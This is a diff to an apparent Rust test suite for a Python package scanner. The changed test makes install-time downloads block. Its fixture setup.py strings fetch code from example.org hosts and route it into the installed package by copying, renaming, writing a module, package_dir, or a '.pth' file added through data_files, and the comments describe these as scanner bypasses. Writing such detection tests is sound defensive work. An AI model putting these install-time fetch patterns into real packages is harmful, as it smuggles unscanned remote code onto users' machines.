@@ -2415,13 +2415,15 @@ fn anomalies_are_judged_by_what_the_artifact_does_and_their_malicious_variants_b
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
 }
 
-/// fp13: a setup.py (or a build helper it runs) that fetches a build input — a library's
-/// source tarball compiled as an extension, a data table, a dictionary unpacked into the
-/// package — and only unpacks, parses or checks it is annotated, not blocked; the same fetch
-/// with anything that can run what it fetched, in the file or in a member setup.py runs, or
-/// with a code file as its destination, still blocks through the shipped policy.
+/// A setup.py (or a build helper it runs) that fetches at install time blocks through the
+/// shipped policy whatever it does with the bytes: run them (exec, a process, `chmod` + start,
+/// `sys.path` + import, aliases and built names), save them as code, or hand unscanned code to
+/// the package pip installs — copied, moved or written into the tree, installed straight from
+/// the temp dir by `package_dir` or `data_files` (a `.pth`). These are the bypasses that
+/// withdrew fp13's "build input" lowering (a fetch only unpacked in a temp dir or parsed was to
+/// be Medium): what the build installs from a download is never seen by the scan.
 #[test]
-fn install_time_build_inputs_annotate_and_their_malicious_variants_block() {
+fn install_time_downloads_block_wherever_the_fetched_code_goes() {
     use crate::model::Decision::{self, Annotate, Block, Serve};
     let scanner = Scanner::new(Limits::default()).with_threads(1);
     let metadata = wheel_metadata("demo", "1.0");
@@ -2441,17 +2443,19 @@ fn install_time_build_inputs_annotate_and_their_malicious_variants_block() {
     const SETUP_EXT: &str =
         "setup(name='demo', version='1.0', ext_modules=[Extension('demo._foo', [os.path.join(src, 'foo.c')])])\n";
     let tarball = |extra: &str| format!("{TARBALL}{extra}{SETUP_EXT}");
-    let table = "import os, platform\nfrom urllib.request import urlopen\nfrom xml.etree import ElementTree\nfrom setuptools import setup\nTABLE = os.path.join('demo', 'table.xml')\nif not os.path.exists(TABLE) and platform.system() != 'Emscripten':\n    with open(TABLE, 'wb') as f:\n        f.write(urlopen('https://data.example.org/list-one.xml').read())\nElementTree.parse(TABLE)\nsetup(name='demo', version='1.0', package_data={'demo': ['table.xml']})\n";
     let dictionary = "import os, shutil\nfrom urllib.request import urlretrieve\nfrom zipfile import ZipFile\nfrom setuptools import setup\nurlretrieve('https://dict.example.org/dict-full.zip', 'dict.zip')\nwith ZipFile('dict.zip') as z:\n    z.extractall()\nshutil.move('system_full.dic', os.path.join('demo', 'resources', 'system.dic'))\nsetup(name='demo', version='1.0')\n";
     let helper = "import os, tempfile, zipfile\nimport requests\n\ndef fetch_protos():\n    tmp = os.path.join(tempfile.gettempdir(), 'protos')\n    with open(os.path.join(tmp, 'protos.zip'), 'wb') as zf:\n        zf.write(requests.get('https://codeload.example.org/api/zip/v1').content)\n    with zipfile.ZipFile(os.path.join(tmp, 'protos.zip')) as z:\n        z.extractall(tmp)\n";
     let in_tree = helper.replace("z.extractall(tmp)", "z.extractall('proto')");
     let helper_setup = "from setuptools import setup\nimport sys\nsys.path.insert(0, 'tools')\nfrom build_protos import fetch_protos\nfetch_protos()\nsetup(name='demo', version='1.0')\n";
+    let tarball_setup = |extra: &str| format!("{TARBALL}{extra}");
     let cases: Vec<(&str, Vec<u8>, Decision)> = vec![
-        // Build inputs: fetched, then unpacked, parsed or checked; nothing runs them.
-        ("a library's source tarball, digest-checked and compiled as an extension", sdist(&tarball(""), &[]), Serve),
-        ("a data table fetched and parsed as XML", sdist(table, &[]), Serve),
-        ("a build helper setup.py runs fetches protos and unpacks them in the temp dir", sdist(helper_setup, &[("tools/build_protos.py", helper)]), Serve),
-        // Unpacked into the tree, where another member could run what it holds: still blocks.
+        // The unpacked code reaches the installed package without passing through the scan.
+        ("the unpacked tree copied into the package", sdist(&tarball_setup("import shutil\nshutil.copytree(src, os.path.join('demo', 'vendored'))\nsetup(name='demo', version='1.0', packages=['demo', 'demo.vendored'])\n"), &[]), Block),
+        ("the unpacked tree installed from the temp dir by package_dir", sdist(&tarball_setup("setup(name='demo', version='1.0', packages=['demo', 'foo'], package_dir={'foo': src})\n"), &[]), Block),
+        ("an unpacked module moved into the package", sdist(&tarball_setup("os.rename(os.path.join(src, 'foo.py'), os.path.join('demo', 'foo.py'))\nsetup(name='demo', version='1.0', packages=['demo'])\n"), &[]), Block),
+        ("an unpacked .pth installed into site-packages by data_files", sdist(&tarball_setup("setup(name='demo', version='1.0', packages=['demo'], data_files=[('lib/python3/site-packages', [os.path.join(src, 'evil.pth')])])\n"), &[]), Block),
+        ("a fetched text written as a module of the package", sdist("import json, os\nfrom pathlib import Path\nfrom urllib.request import urlopen\nfrom setuptools import setup\ncfg = json.loads(open('cfg.json').read())\nPath('demo/_gen.py').write_text(urlopen('https://data.example.org/gen').read().decode())\nsetup(name='demo', version='1.0', packages=['demo'])\n", &[]), Block),
+        // Unpacked into the tree, where another member could run what it holds.
         ("a dictionary zip unpacked into the tree", sdist(dictionary, &[]), Block),
         ("a build helper unpacks protos into the tree", sdist(helper_setup, &[("tools/build_protos.py", &in_tree)]), Block),
         // The same fetch with anything that can run what it fetched.
